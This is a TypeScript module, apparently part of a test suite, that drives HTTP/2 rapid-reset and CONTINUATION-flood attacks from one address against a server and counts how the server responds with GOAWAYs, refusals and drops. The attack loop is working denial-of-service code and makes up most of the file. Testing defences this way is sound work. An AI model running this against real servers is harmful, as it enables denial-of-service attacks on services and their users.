// HTTP/2 abuse from one address, as an attacker runs it: TLS with ALPN h2,
// then raw frames as fast as the socket drains — rapid reset (HEADERS +
// RST_STREAM, `burst` streams a write) or a CONTINUATION flood (header
// blocks that never end) — reconnecting whenever the server closes the
// session, until `until`. Counts what the server did: sessions, GOAWAYs, and
// connections refused (closed before the TLS handshake finished: a ban at
// accept) or never answered (dropped in the kernel). Stops by itself.
import { connect, type TLSSocket } from 'node:tls';
import { continuationFlood, attackerPreface, rapidResetBurst, T } from './h2-frames.js';

export type H2AbuseKind = 'rapid-reset' | 'continuation';

export interface H2AbuseOptions {
  host: string;
  port: number;
  /** Source address (a 127.x.y.z on loopback). */
  localAddress: string;
  kind: H2AbuseKind;
  until: number;
  /** Streams per write (rapid reset). Default 100. */
  burst?: number;
  servername?: string;
  /** Give up on a connection attempt after this long (a kernel drop never answers). Default 1000 ms. */
  connectTimeoutMs?: number;
}

export interface H2AbuseResult {
  sessions: number;
  streams: number;
  goaways: number;
  /** Connections closed before the TLS handshake completed (refused at accept). */
  refused: number;
  /** Connection attempts that got no answer within connectTimeoutMs. */
  unanswered: number;
  /** ms since the epoch of the first refused or unanswered attempt; 0 if none. */
  firstRefusedAt: number;
  startedAt: number;
}

function once(o: H2AbuseOptions, res: H2AbuseResult): Promise<void> {
  return new Promise((resolve) => {
    new H2Attempt(o, res, resolve);
  });
}

/** One connection: refused, unanswered, or a session pumped with abusive frames until it closes or `until`. */
class H2Attempt {
  private secure = false;
  private done = false;
  /** The next stream id (odd, client-initiated). */
  private id = 1;
  private readonly burst: number;
  private readonly authority: string;
  private readonly s: TLSSocket;
  private readonly timer: NodeJS.Timeout;
  /** Bytes of a frame not yet complete. */
  private pending: Buffer = Buffer.alloc(0);

  constructor(
    private readonly o: H2AbuseOptions,
    private readonly res: H2AbuseResult,
    private readonly resolve: () => void,
  ) {
    this.burst = o.burst ?? 100;
    this.authority = o.servername ?? 'localhost';
    const s = connect({
      host: o.host,
      port: o.port,
      localAddress: o.localAddress,
      servername: this.authority,
      ALPNProtocols: ['h2'],
      rejectUnauthorized: false,
    } as unknown as Parameters<typeof connect>[0]);
    this.s = s;
    this.timer = setTimeout(() => {
      if (!this.secure) this.refuse('unanswered');
      this.finish();
    }, o.connectTimeoutMs ?? 1000);
    s.on('error', () => {});
    s.on('close', () => {
      if (!this.secure && !this.done) this.refuse('refused');
      this.finish();
    });
    s.on('data', (d: Buffer) => this.countGoaways(d));
    s.once('secureConnect', () => this.attack());
  }

  private finish(): void {
    if (this.done) return;
    this.done = true;
    clearTimeout(this.timer);
    this.s.destroy();
    this.resolve();
  }

  private refuse(kind: 'refused' | 'unanswered'): void {
    this.res[kind]++;
    if (this.res.firstRefusedAt === 0) this.res.firstRefusedAt = Date.now();
  }

  /** Frames re-assembled across chunks: count the server's GOAWAYs. */
  private countGoaways(d: Buffer): void {
    const pending = this.pending.length === 0 ? d : Buffer.concat([this.pending, d]);
    let i = 0;
    while (i + 9 <= pending.length) {
      const len = pending.readUIntBE(i, 3);
      if (i + 9 + len > pending.length) break;
      if (pending[i + 3] === T.GOAWAY) this.res.goaways++;
      i += 9 + len;
    }
    this.pending = pending.subarray(i);
  }

  private attack(): void {
    this.secure = true;
    clearTimeout(this.timer);
    this.res.sessions++;
    this.s.write(attackerPreface());
    this.pump();
  }

  /** One write a turn of the event loop: as fast as the socket drains, and the server's frames still get read. */
  private pump = (): void => {
    const { o, s } = this;
    if (this.done || s.destroyed) return;
    if (Date.now() >= o.until) {
      this.finish();
      return;
    }
    const n = o.kind === 'rapid-reset' ? this.burst : 1;
    const chunk =
      o.kind === 'rapid-reset'
        ? rapidResetBurst(this.id, this.burst, this.authority)
        : continuationFlood(this.id, this.authority, 16);
    this.id += 2 * n;
    this.res.streams += n;
    if (this.id > 0x7fff0000) {
      this.finish();
      return;
    }
    if (s.write(chunk)) setImmediate(this.pump);
    else s.once('drain', this.pump);
  };
}

export async function runH2Abuse(o: H2AbuseOptions): Promise<H2AbuseResult> {
  const res: H2AbuseResult = {
    sessions: 0,
    streams: 0,
    goaways: 0,
    refused: 0,
    unanswered: 0,
    firstRefusedAt: 0,
    startedAt: Date.now(),
  };
  while (Date.now() < o.until) {
    await once(o, res);
    // A refused attacker retries at once, like a real one: every attempt costs the shield an accept (or nothing, in the kernel).
  }
  return res;
}
